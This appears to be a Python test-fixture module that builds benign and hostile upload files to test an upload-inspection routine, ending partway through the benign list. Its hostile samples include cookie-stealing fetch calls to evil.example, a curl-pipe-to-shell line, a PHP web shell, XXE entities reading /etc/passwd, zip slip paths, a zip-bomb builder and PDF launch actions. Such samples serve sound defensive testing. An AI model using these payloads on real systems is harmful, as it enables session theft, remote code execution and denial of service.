"""Every benign and hostile upload sample, generated in code (no binary file is committed).

Each :class:`Sample` writes one file. ``client_name`` is what a browser would send as the file
name; ``inspect_upload`` never sees it (only ``clean_filename`` does). Hostile samples name the
``RejectedFile.code`` the inspection must give, so a sample refused for the wrong reason (a pixel
flood refused as "damaged", say) fails its test.

Numbers in the comments refer to the case table in the security bar, section 2(c).
"""

from __future__ import annotations

import functools
import gzip
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

MB = 1024 * 1024
DEFAULT_MAX_BYTES = 20 * MB
# Built from two pieces so that this source file never holds the signature in one piece.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)  # fixed, so every generated archive is byte-identical


@dataclass(frozen=True)
class Sample:
    name: str
    client_name: str
    write: Callable[[Path], None]
    kind: str | None = None  # benign: the kind inspect_upload must report
    code: str | None = None  # hostile: the RejectedFile.code it must raise
    max_bytes: int = DEFAULT_MAX_BYTES


def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data() if callable(data) else data)

    return write


# --------------------------------------------------------------------------------------------
# PDF builders


@functools.cache
def weasyprint_pdf() -> bytes:
    """A real PDF (PDF 1.7, object streams, embedded font subset) made by WeasyPrint."""
    from weasyprint import HTML

    html = (
        "<h1>Offre d'emploi : cuisinier</h1><p>Salaire : 25,50 $/h. Lieu : Montréal, Québec."
        "</p><p>Publié le 2026-01-15 sur le Guichet-Emplois.</p>"
    )
    return HTML(string=html).write_pdf()


def raw_pdf(*objects: bytes, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """Assemble numbered objects (1, 2, ...) into a PDF with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _content_stream(text: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text)


def text_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *extra: bytes) -> bytes:
    """A one-page PDF with Helvetica text; extra dictionary entries and objects (6, 7 ...)."""
    content = b"BT /F1 18 Tf 72 720 Td (Job ad: wage < base rate? No: 25.50 $/h) Tj ET"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> %s>>" % page_extra,
        _content_stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra,
    )


def pdf_with_eof_at(position: int) -> bytes:
    """A valid PDF padded so that its "%%EOF" starts at ``position`` (e.g. across a read)."""
    padding = 0
    for _ in range(5):
        data = text_pdf(b"", b"", _content_stream(b"%" + b"x" * padding))
        padding += position - data.rfind(b"%%EOF")
    assert data.rfind(b"%%EOF") == position
    return data


def _pypdf(build: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action_js(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('opened');"),
        }
    )


def _incremental_update() -> bytes:
    writer = PdfWriter(PdfReader(io.BytesIO(weasyprint_pdf())), incremental=True)
    writer.add_metadata({"/Title": "Offre d'emploi (revised)"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _hex(text: bytes) -> bytes:
    return b"<" + text.hex().encode() + b">"


# --------------------------------------------------------------------------------------------
# Image builders


def _image(mode: str = "RGB", size: tuple[int, int] = (240, 160)) -> Image.Image:
    image = Image.linear_gradient("L").resize(size).convert(mode)
    ImageDraw.Draw(image).text((10, 10), "Job Bank ad 2026-01-15", fill="white")
    return image


def _saved(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def png_bytes(mode: str = "RGB") -> bytes:
    return _saved(_image(mode), "PNG")


@functools.cache
def jpeg_bytes() -> bytes:
    return _saved(_image(), "JPEG", quality=85)


def _jpeg_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0132] = "2026:01:15 10:00:00"  # DateTime
    return _saved(_image(), "JPEG", exif=exif.tobytes())


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def write_flat_png(path: Path, width: int, height: int) -> None:
    """A valid 1-bit greyscale PNG of zeros, made in milliseconds (see :func:`deflate_zeros`)."""
    data, _, adler = deflate_zeros(height * (1 + (width + 7) // 8))  # filter byte + packed bits
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"\x78\xda" + data + struct.pack(">I", adler))  # zlib wrapper
        + _png_chunk(b"IEND", b"")
    )


def _png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    chunks, pos = [], 8
    while pos < len(data):
        (length,) = struct.unpack_from(">I", data, pos)
        chunks.append((data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + length]))
        pos += 12 + length
    return chunks


def _png_short_pixels() -> bytes:
    """Half the pixel rows missing, yet every chunk CRC is right (a crafted, not a torn, file)."""
    out = b"\x89PNG\r\n\x1a\n"
    chunks = _png_chunks(png_bytes())
    raw = zlib.decompress(b"".join(data for kind, data in chunks if kind == b"IDAT"))
    for kind, data in chunks:
        if kind == b"IDAT":
            data = zlib.compress(raw[: len(raw) // 2])
        out += _png_chunk(kind, data)
    return out


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose frame header (SOF0) claims other dimensions: a pixel flood in 4 KB."""
    data = bytearray(jpeg_bytes())
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def _png_bad_crc() -> bytes:
    data = bytearray(png_bytes())
    at = data.index(b"IDAT") + 20
    data[at] ^= 0xFF
    return bytes(data)


# --------------------------------------------------------------------------------------------
# ZIP / DOCX builders


@functools.cache
def docx_bytes() -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("Registre de recrutement", level=1)
    document.add_paragraph("Annonce publiée sur le Guichet-Emplois, salaire 25,50 $/h. Émilie ✓")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Plateforme"
    table.cell(0, 1).text = "Date"
    table.cell(1, 0).text = "Job Bank"
    table.cell(1, 1).text = "2026-01-15"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _info(name: str, compress: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, ZIP_TIME)  # ZipInfo keeps the name as given ("../", "/")
    info.compress_type = compress
    return info


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(_info(name), data)
    return out.getvalue()


def docx_with(
    extra: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None
) -> bytes:
    """The benign DOCX re-zipped, with members replaced or added."""
    replace = replace or {}
    members = {}
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as archive:
        for info in archive.infolist():
            members[info.filename] = replace.get(info.filename, archive.read(info))
    members.update(extra or {})
    return zip_bytes(members)


def write_zip_bomb(path: Path) -> None:
    """A DOCX-shaped ZIP whose one extra member unpacks to 200 MiB of zeros (about 200 KB)."""
    members = []
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source:
        for info in source.infolist():
            data = source.read(info)
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = compressor.compress(data) + compressor.flush()
            members.append((info.filename, packed, zlib.crc32(data), len(data)))
    packed, crc, _ = deflate_zeros(200 * MB)
    members.append(("word/media/image1.png", packed, crc, 200 * MB))
    path.write_bytes(raw_zip(members))


@functools.cache
def _deflated_mib_of_zeros() -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)


def deflate_zeros(size: int) -> tuple[bytes, int, int]:
    """Raw DEFLATE data for ``size`` zero bytes, with their CRC-32 and Adler-32.

    Compressing 200 MiB takes about a second; this takes milliseconds. The output for one MiB
    ends with a full flush (byte-aligned, no reference to earlier data), so it can be repeated
    as is; a fresh compressor packs the rest and closes the stream.
    """
    count, rest = divmod(size, MB)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = _deflated_mib_of_zeros() * count + last.compress(bytes(rest)) + last.flush()
    crc, adler = 0, 1
    for piece in [bytes(MB)] * count + [bytes(rest)]:
        crc, adler = zlib.crc32(piece, crc), zlib.adler32(piece, adler)
    return data, crc, adler


def raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP from already-deflated members: (name, raw DEFLATE data, CRC-32, unpacked size)."""
    body, directory = bytearray(), bytearray()
    date = (2024 - 1980) << 9 | 1 << 5 | 1
    for name, data, crc, size in members:
        encoded = name.encode()
        directory += struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, date, crc, len(data), size,
            len(encoded), 0, 0, 0, 0, 0, len(body),
        ) + encoded  # fmt: skip
        body += struct.pack(
            "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, date, crc, len(data), size, len(encoded), 0
        ) + encoded + data  # fmt: skip
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(body), 0
    )
    return bytes(body + directory + end)


def _docx_too_many_members() -> bytes:
    return docx_with({f"customXml/item{n}.xml": b"<a/>" for n in range(10, 1011)})


def _forged_sizes() -> bytes:
    """A member that declares 60 000 bytes unpacked but really holds 5 MiB of zeros."""
    data = bytearray(docx_with({"word/media/big.bin": bytes(5 * MB)}))
    name = b"word/media/big.bin"
    central = data.index(b"PK\x01\x02")
    while True:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_length] == name:
            break
        central = data.index(b"PK\x01\x02", central + 46)
    local = struct.unpack_from("<I", data, central + 42)[0]
    struct.pack_into("<I", data, central + 24, 60_000)
    struct.pack_into("<I", data, local + 22, 60_000)
    return bytes(data)


_REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://evil.example/template.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def _docx_with_dtd() -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as archive:
        document = archive.read("word/document.xml")
    declaration, _, body = document.partition(b"?>")
    dtd = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return docx_with(replace={"word/document.xml": declaration + b"?>" + dtd + body})


def _docx_macro_content_type() -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as archive:
        types = archive.read("[Content_Types].xml")
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    assert main in types
    return docx_with(replace={"[Content_Types].xml": types.replace(main, macro)})


def _js_pdf() -> bytes:
    return _pypdf(lambda w: w.add_open_action(JavaScript("app.alert(1);")))


def _docx_led_by(name: str, data: bytes) -> bytes:
    """The benign DOCX with ``name`` stored (not compressed) as its first member: a reader of
    ``data``'s format that looks near the start of a file (a PDF reader) finds it there."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(_info(name, zipfile.ZIP_STORED), data)
        with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source:
            for info in source.infolist():
                archive.writestr(_info(info.filename), source.read(info))
    return out.getvalue()


def _padded_jpeg() -> bytes:
    """A camera JPEG: some firmware fills the file up to a block size with zero bytes."""
    data = jpeg_bytes()
    return data + bytes(-len(data) % 4096 or 4096)


def _mpo_jpeg() -> bytes:
    """A JPEG with a second image declared by its MPF index (APP2), as phones store HDR gain
    maps and stereo cameras their second view (Pillow writes the MPO format)."""
    second = _image("RGB", (120, 80))
    return _saved(_image(), "MPO", save_all=True, append_images=[second])


@functools.cache
def docx_with_picture() -> bytes:
    """python-docx with a picture: a media part, a PNG Default content type."""
    import docx

    document = docx.Document()
    document.add_paragraph("Affiche du poste, photo prise le 2026-01-15.")
    document.add_picture(io.BytesIO(png_bytes()))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


# --------------------------------------------------------------------------------------------
# The corpus

_PE_HEADER = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43) + b"\x80\x00"
)
_EXE = _PE_HEADER + bytes(64) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(64)
_HTML = (
    b"<!DOCTYPE html><html><head><title>Receipt</title></head>"
    b"<body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"
)

HOSTILE: list[Sample] = [
    # 1-3: size
    Sample("empty file", "receipt.pdf", _bytes(b""), code="empty"),
    Sample(
        "only a BOM and blank lines", "notes.txt", _bytes(b"\xef\xbb\xbf \r\n\t\n"), code="empty"
    ),
    Sample(
        "over the per-upload limit",
        "big.txt",
        _bytes(b"a" * 1025),
        code="too_large",
        max_bytes=1024,
    ),
    # 4: disallowed types, judged by content
    Sample(".exe content", "setup.exe", _bytes(_EXE), code="program"),
    Sample(".html content", "page.html", _bytes(_HTML), code="markup"),
    Sample(
        ".htm content (BOM, blank lines, upper case)",
        "page.htm",
        _bytes(b"\xef\xbb\xbf\r\n  <HTML><BODY onload=alert(1)>hi</BODY></HTML>"),
        code="markup",
    ),
    Sample(
        ".svg with a script",
        "logo.svg",
        _bytes(
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>alert(document.domain)</script></svg>"
        ),
        code="markup",
    ),
    Sample(
        ".js content",
        "app.js",
        _bytes(b"// analytics\nfetch('https://evil.example/?c=' + document.cookie);\n"),
        code="txt_active",
    ),
    Sample(".php content", "shell.php", _bytes(b"<?php system($_GET['c']); ?>"), code="markup"),
    Sample(
        ".zip content",
        "archive.zip",
        _bytes(lambda: zip_bytes({"a.txt": b"hello"})),
        code="archive",
    ),
    Sample(
        ".xml content (XXE)",
        "data.xml",
        _bytes(
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
        ),
        code="markup",
    ),
    Sample(
        "gzip archive",
        "logs.gz",
        _bytes(lambda: gzip.compress(b"x" * 100, mtime=0)),
        code="archive",
    ),
    # 5, 7, 8: the name lies
    Sample("HTML bytes named .pdf", "receipt.pdf", _bytes(_HTML), code="markup"),
    Sample(
        "double extension receipt.html.pdf with HTML content",
        "receipt.html.pdf",
        _bytes(b"<html><body>Pay here</body></html>"),
        code="markup",
    ),
    Sample("MZ executable named .png", "photo.png", _bytes(_EXE), code="program"),
    Sample(
        "ELF executable named .pdf",
        "report.pdf",
        _bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(56)),
        code="program",
    ),
    Sample(
        "shebang script named .txt",
        "notes.txt",
        _bytes(b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"),
        code="program",
    ),
    # 10: PDF/HTML polyglots
    Sample(
        "PDF/HTML polyglot: %PDF- header then <script>",
        "receipt.pdf",
        _bytes(
            b"%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n" + text_pdf()[9:]
        ),
        code="pdf_polyglot",
    ),
    Sample(
        "real PDF with an HTML page appended after %%EOF",
        "receipt.pdf",
        _bytes(lambda: weasyprint_pdf() + b"\n<html><body><script>alert(1)</script>"),
        code="pdf_polyglot",
    ),
    Sample(
        "real PDF with a bare tag after %%EOF",
        "receipt.pdf",
        _bytes(lambda: weasyprint_pdf() + b"<p onmouseover=x()>hover</p>"),
        code="pdf_polyglot",
    ),
    Sample(
        "PDF whose %%EOF straddles a 64 KiB read, then a tag",
        "receipt.pdf",
        _bytes(lambda: pdf_with_eof_at(64 * 1024 - 2) + b"<p>x</p>"),
        code="pdf_polyglot",
    ),
    # 11: GIF/JS polyglot, and GIF in general
    Sample(
        "GIF/JS polyglot",
        "image.gif",
        _bytes(b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(document.domain);"),
        code="type",
    ),
    Sample("real GIF image", "image.gif", _bytes(lambda: _saved(_image("P"), "GIF")), code="type"),
    Sample("WebP image", "image.webp", _bytes(lambda: _saved(_image(), "WEBP")), code="type"),
    Sample("BMP image", "image.bmp", _bytes(lambda: _saved(_image(), "BMP")), code="type"),
    # 12: SVG
    Sample(
        "SVG without XML prolog named .png",
        "logo.png",
        _bytes(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        code="markup",
    ),
    # 13: active PDF content (policy: reject)
    Sample(
        "PDF with /OpenAction JavaScript",
        "offer.pdf",
        _bytes(lambda: _pypdf(_open_action_js)),
        code="pdf_active",
    ),
    Sample(
        "PDF with document-level JavaScript",
        "offer.pdf",
        _bytes(lambda: _pypdf(lambda w: w.add_open_action(JavaScript("app.alert(1);")))),
        code="pdf_active",
    ),
    Sample(
        "PDF with an embedded file",
        "offer.pdf",
        _bytes(lambda: _pypdf(lambda w: w.add_attachment("payload.exe", _EXE))),
        code="pdf_active",
    ),
    Sample(
        "PDF with /Launch in hex-escaped names",
        "offer.pdf",
        _bytes(lambda: text_pdf(b"/Open#41ction << /S /L#61unch /F (cmd.exe) >> ")),
        code="pdf_active",
    ),
    Sample(
        "PDF with page /AA (additional actions)",
        "offer.pdf",
        _bytes(lambda: text_pdf(b"", b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> ")),
        code="pdf_active",
    ),
    Sample(
        "PDF with an XFA form",
        "offer.pdf",
        _bytes(
            lambda: text_pdf(
                b"/AcroForm << /Fields [] /XFA 6 0 R >> ", b"", _content_stream(b"<xdp:xdp/>")
            )
        ),
        code="pdf_active",
    ),
    Sample(
        "PDF with a RichMedia annotation",
        "offer.pdf",
        _bytes(
            lambda: text_pdf(
                b"",
                b"/Annots [6 0 R] ",
                b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",
            )
        ),
        code="pdf_active",
    ),
    Sample(
        "PDF link to a hex-encoded javascript: URI",
        "offer.pdf",
        _bytes(
            lambda: text_pdf(
                b"",
                b"/Annots [6 0 R] ",
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI "
                + _hex(b"javascript:alert(1)")
                + b" >> >>",
            )
        ),
        code="pdf_active",
    ),
    Sample(
        "PDF with an unreferenced JavaScript object",
        "offer.pdf",
        _bytes(lambda: text_pdf(b"", b"", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        code="pdf_active",
    ),
    Sample(
        "password-protected PDF",
        "offer.pdf",
        _bytes(lambda: _pypdf(lambda w: w.encrypt("secret", algorithm="RC4-128"))),
        code="pdf_encrypted",
    ),
    # 14: pixel floods
    Sample(
        "pixel flood: 30000x30000 PNG",
        "photo.png",
        lambda p: write_flat_png(p, 30_000, 30_000),
        code="image_flood",
    ),
    Sample(
        "pixel flood: 8000x8000 PNG (warning zone)",
        "photo.png",
        lambda p: write_flat_png(p, 8_000, 8_000),
        code="image_flood",
    ),
    Sample(
        "pixel flood: JPEG frame header claiming 30000x30000",
        "photo.jpg",
        _bytes(lambda: _jpeg_claiming(30_000, 30_000)),
        code="image_flood",
    ),
    Sample(
        "pixel flood: JPEG frame header claiming 8000x8000 (warning zone)",
        "photo.jpg",
        _bytes(lambda: _jpeg_claiming(8_000, 8_000)),
        code="image_flood",
    ),
    # 15: zip bombs
    Sample(
        "zip bomb named .docx (200 MiB of zeros)",
        "letter.docx",
        write_zip_bomb,
        code="docx_too_big",
    ),
    Sample(
        "DOCX with a 5 MiB member compressed 1000:1",
        "letter.docx",
        _bytes(lambda: docx_with({"word/media/image1.png": bytes(5 * MB)})),
        code="docx_ratio",
    ),
    Sample(
        "DOCX with 1001 extra members",
        "letter.docx",
        _bytes(_docx_too_many_members),
        code="docx_too_many",
    ),
    Sample(
        "DOCX with a 1.6 MB central directory (400 long names)",
        "letter.docx",
        _bytes(
            lambda: docx_with({f"customXml/{n:03d}{'x' * 4000}.xml": b"<a/>" for n in range(400)})
        ),
        code="docx_too_many",
    ),
    Sample(
        "DOCX with an 11 MiB XML part (lxml memory bomb)",
        "letter.docx",
        _bytes(lambda: docx_with({"word/header9.xml": b"<w:p/>" * (11 * MB // 6)})),
        code="docx_xml_part",
    ),
    Sample(
        "DOCX whose member lies about its size",
        "letter.docx",
        _bytes(_forged_sizes),
        code="docx_damaged",
    ),
    # 16: zip slip and friends
    Sample(
        "zip slip .docx (../../evil.txt)",
        "letter.docx",
        _bytes(lambda: docx_with({"../../evil.txt": b"owned"})),
        code="docx_paths",
    ),
    Sample(
        "DOCX with an absolute member path",
        "letter.docx",
        _bytes(lambda: docx_with({"/etc/cron.d/evil": b"* * * * * root sh"})),
        code="docx_paths",
    ),
    Sample(
        "DOCX with a backslash member path",
        "letter.docx",
        _bytes(lambda: docx_with({"..\\..\\evil.bat": b"echo owned"})),
        code="docx_paths",
    ),
    Sample(
        "DOCX with vbaProject.bin (macros)",
        "letter.docx",
        _bytes(lambda: docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)})),
        code="docx_macros",
    ),
    Sample(
        "DOCM renamed .docx (macro content type)",
        "letter.docx",
        _bytes(_docx_macro_content_type),
        code="docx_macros",
    ),
    Sample(
        "DOCX with a remote template",
        "letter.docx",
        _bytes(lambda: docx_with({"word/_rels/settings.xml.rels": _REMOTE_TEMPLATE})),
        code="docx_remote",
    ),
    Sample(
        "DOCX with a DTD/XXE in document.xml",
        "letter.docx",
        _bytes(_docx_with_dtd),
        code="docx_dtd",
    ),
    Sample(
        "plain ZIP named .docx",
        "letter.docx",
        _bytes(lambda: zip_bytes({"evil.exe": _EXE})),
        code="archive",
    ),
    Sample(
        "XLSX-shaped ZIP named .docx",
        "letter.docx",
        _bytes(
            lambda: zip_bytes(
                {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
            )
        ),
        code="archive",
    ),
    Sample(
        "DOCX with document.xml that is not XML",
        "letter.docx",
        _bytes(lambda: docx_with(replace={"word/document.xml": b"not xml at all"})),
        code="docx_damaged",
    ),
    # corrupt files
    Sample(
        "truncated PDF", "offer.pdf", _bytes(lambda: weasyprint_pdf()[:3000]), code="pdf_damaged"
    ),
    Sample(
        "PDF with a broken startxref",
        "offer.pdf",
        _bytes(lambda: re.sub(rb"startxref\n\d+", b"startxref\n99999", text_pdf())),
        code="pdf_damaged",
    ),
    Sample(
        "PDF header then garbage",
        "offer.pdf",
        _bytes(b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"),
        code="pdf_damaged",
    ),
    Sample(
        "PDF whose page tree loops",
        "offer.pdf",
        _bytes(
            lambda: raw_pdf(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            )
        ),
        code="pdf_damaged",
    ),
    Sample(
        "PDF nested 5000 arrays deep",
        "offer.pdf",
        _bytes(lambda: text_pdf(b"/X " + b"[" * 5000 + b"]" * 5000 + b" ")),
        code="pdf_damaged",
    ),
    Sample("truncated PNG", "photo.png", _bytes(lambda: png_bytes()[:300]), code="image_damaged"),
    Sample("PNG with a bad CRC", "photo.png", _bytes(_png_bad_crc), code="image_damaged"),
    Sample(
        "PNG with valid CRCs but half its pixel rows",
        "photo.png",
        _bytes(_png_short_pixels),
        code="image_damaged",
    ),
    Sample(
        "truncated JPEG", "photo.jpg", _bytes(lambda: jpeg_bytes()[:1500]), code="image_damaged"
    ),
    # hidden archives
    Sample(
        "JPEG with a ZIP appended (polyglot)",
        "photo.jpg",
        _bytes(lambda: jpeg_bytes() + zip_bytes({"evil.exe": _EXE})),
        code="polyglot",
    ),
    Sample(
        "PNG with a ZIP appended (polyglot)",
        "photo.png",
        _bytes(lambda: png_bytes() + zip_bytes({"evil.exe": _EXE})),
        code="polyglot",
    ),
    Sample(
        "PDF with a ZIP appended (polyglot)",
        "offer.pdf",
        _bytes(lambda: text_pdf() + zip_bytes({"a.txt": b"hello"})),
        code="polyglot",
    ),
    # issue 7 S3: polyglots whose payload sits where the image or document format ends
    Sample(
        "PNG with a JavaScript PDF appended after IEND (polyglot)",
        "photo.png",
        _bytes(lambda: png_bytes() + _js_pdf()),
        code="image_trailing",
    ),
    Sample(
        "DOCX whose first member is a JavaScript PDF (polyglot)",
        "letter.docx",
        _bytes(lambda: _docx_led_by("payload.pdf", _js_pdf())),
        code="docx_foreign",
    ),
    Sample(
        "JPEG with <script> HTML appended after EOI (polyglot)",
        "photo.jpg",
        _bytes(lambda: jpeg_bytes() + _HTML),
        code="image_trailing",
    ),
    # text
    Sample("TXT with NUL bytes", "notes.txt", _bytes(b"hello\x00world\n"), code="txt_binary"),
    Sample(
        "TXT in Latin-1 (not UTF-8)",
        "notes.txt",
        _bytes("Café à Montréal, salaire 25 $".encode("latin-1")),
        code="txt_encoding",
    ),
    Sample(
        "TXT in UTF-16 with BOM", "notes.txt", _bytes("Hello".encode("utf-16")), code="txt_encoding"
    ),
    Sample(
        "TXT that is HTML (leading blank lines)",
        "notes.txt",
        _bytes(b"\n\n   <!doctype html><p>hi</p>"),
        code="markup",
    ),
    Sample(
        "TXT with a script tag in the middle",
        "notes.txt",
        _bytes(b"Job posting text.\nApply below.\n<script>alert(1)</script>\n"),
        code="txt_active",
    ),
    Sample(
        "TXT with an onerror image in the middle",
        "notes.txt",
        _bytes(b"See the poster: <img src=x onerror=alert(1)>\n"),
        code="txt_active",
    ),
    Sample(
        "TXT with PHP in the middle",
        "notes.txt",
        _bytes(b"Notes\n<?php system($_GET['c']); ?>\n"),
        code="txt_active",
    ),
    Sample(
        "TXT with terminal escape sequences",
        "notes.txt",
        _bytes(b"Invoice \x1b[2J\x1b[1;31mPAID\x1b[0m\n"),
        code="txt_control",
    ),
    # 22: antivirus hook
    Sample("EICAR as .txt", "eicar.txt", _bytes(EICAR), code="virus"),
    Sample(
        "EICAR inside a PDF-looking file",
        "offer.pdf",
        _bytes(b"%PDF-1.4\n%" + EICAR + b"\n%%EOF\n"),
        code="virus",
    ),
    Sample(
        "EICAR across a 64 KiB read boundary",
        "notes.txt",
        _bytes(b"a" * (64 * 1024 - 20) + EICAR),
        code="virus",
    ),
    Sample(
        "EICAR compressed inside a DOCX member",
        "letter.docx",
        _bytes(lambda: docx_with({"word/media/readme.txt": EICAR * 3})),
        code="virus",
    ),
]

BENIGN: list[Sample] = [
    Sample("WeasyPrint PDF", "Offre d'emploi.pdf", _bytes(weasyprint_pdf), kind="pdf"),
    Sample("hand-made text PDF", "ad.PdF", _bytes(text_pdf), kind="pdf"),
    Sample(
        "PDF with an incremental update (two %%EOF)",
        "ad.pdf",
        _bytes(_incremental_update),
        kind="pdf",
    ),
    Sample(
        "PDF opening at a page (/OpenAction destination)",
        "ad.pdf",
        _bytes(lambda: text_pdf(b"/OpenAction [3 0 R /Fit] ")),
        kind="pdf",
    ),
    Sample(
        "PDF opening with a /GoTo action",
        "ad.pdf",
        _bytes(lambda: text_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ")),
        kind="pdf",
    ),
    Sample(
        "PDF whose %%EOF straddles a 64 KiB read",
        "ad.pdf",
        _bytes(lambda: pdf_with_eof_at(64 * 1024 - 2)),
        kind="pdf",
    ),
    Sample("pypdf blank page", "blank.pdf", _bytes(lambda: _pypdf(lambda w: None)), kind="pdf"),
    Sample("PNG (RGB)", "poster.png", _bytes(png_bytes), kind="png"),
    Sample("PNG (RGBA)", "poster.png", _bytes(lambda: png_bytes("RGBA")), kind="png"),
    Sample("PNG (1-bit)", "scan.png", _bytes(lambda: png_bytes("1")), kind="png"),
    Sample("PNG named .jpg", "photo.jpg", _bytes(png_bytes), kind="png"),
    Sample("JPEG (baseline)", "photo.jpg", _bytes(jpeg_bytes), kind="jpeg"),
    Sample(
        "JPEG (progressive, greyscale)",
        "photo.jpeg",
        _bytes(lambda: _saved(_image("L"), "JPEG", progressive=True)),
        kind="jpeg",
    ),
    Sample("JPEG with EXIF", "IMG_0001.JPG", _bytes(_jpeg_with_exif), kind="jpeg"),
